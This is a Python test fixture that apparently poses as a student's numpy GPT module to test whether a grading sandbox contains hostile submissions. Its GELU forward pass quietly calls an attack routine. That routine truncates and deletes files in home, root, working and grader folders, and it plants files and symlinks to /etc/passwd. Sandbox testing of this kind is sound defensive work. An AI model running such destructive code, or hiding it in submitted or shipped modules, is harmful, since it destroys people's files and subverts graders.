"""In every folder on the parent's command line, in the home folders and in its own sandbox: unlinks
files, opens them with O_TRUNC, creates files and symlinks. Contained: those folders are not in
the sandbox or read-only there (bwrap) or not writable by its uid (user)."""

import glob
import os

import numpy as np

from npgpt import Module, Parameter

TAG = "npgpt-hostile"  # the test writes a tag of its run here


def grader_paths():
    """Absolute paths on the command lines of the parent and of this process (and their folders)."""
    found = set()
    for src in (f"/proc/{os.getppid()}/cmdline", "/proc/self/cmdline"):
        try:
            with open(src, "rb") as f:
                args = f.read().decode("utf-8", "replace").split("\0")
        except OSError:
            continue
        for a in args:
            while a.startswith("/") and len(a) > 1:
                found.add(a)
                a = os.path.dirname(a)
    return found


def attack():
    dirs = {p for p in grader_paths() if os.path.isdir(p)} | {"/root", os.path.expanduser("~"), os.getcwd()}
    dirs |= set(glob.glob("/home/*")) | {os.path.dirname(__file__)}
    done = []
    for d in sorted(dirs):
        for p in sorted(glob.glob(os.path.join(d, "*")))[:30]:
            if not os.path.isfile(p):
                continue
            try:
                os.close(os.open(p, os.O_WRONLY | os.O_TRUNC))
                done.append(("truncated", p))
            except OSError:
                pass
            try:
                os.unlink(p)
                done.append(("unlinked", p))
            except OSError:
                pass
        for what, make in (
            ("created", lambda q: os.close(os.open(q, os.O_CREAT | os.O_WRONLY, 0o644))),
            ("symlinked", lambda q: os.symlink("/etc/passwd", q)),
        ):
            q = os.path.join(d, f"{TAG}-{what}")
            try:
                make(q)
                done.append((what, q))
            except OSError:
                pass
    print("ATTACK file changes that worked:", done or "none", "in", len(dirs), "folders")


_done = []


def attack_once():
    if not _done:
        _done.append(1)
        attack()


class LayerNorm(Module):
    """Correct, and graded in a child of its own: it must keep its 10 points."""

    def __init__(self, emb_dim, eps=1e-5):
        super().__init__()
        self.eps = eps
        self.scale = Parameter(np.ones(emb_dim))
        self.shift = Parameter(np.zeros(emb_dim))

    def forward(self, x):
        mean = x.mean(-1, keepdims=True)
        var = ((x - mean) ** 2).mean(-1, keepdims=True)
        self.rstd = 1.0 / np.sqrt(var + self.eps)
        self.xhat = (x - mean) * self.rstd
        return self.xhat * self.scale.data + self.shift.data

    def backward(self, dout):
        C = dout.shape[-1]
        self.scale.grad += (dout * self.xhat).reshape(-1, C).sum(0)
        self.shift.grad += dout.reshape(-1, C).sum(0)
        g = dout * self.scale.data
        return self.rstd * (
            g - g.mean(-1, keepdims=True) - self.xhat * (g * self.xhat).mean(-1, keepdims=True)
        )


class GELU(Module):
    """Wrong on purpose (all zeros): full marks would mean the attack worked."""

    def forward(self, x):
        attack_once()
        return np.zeros_like(x)

    def backward(self, dout):
        return np.zeros_like(dout)
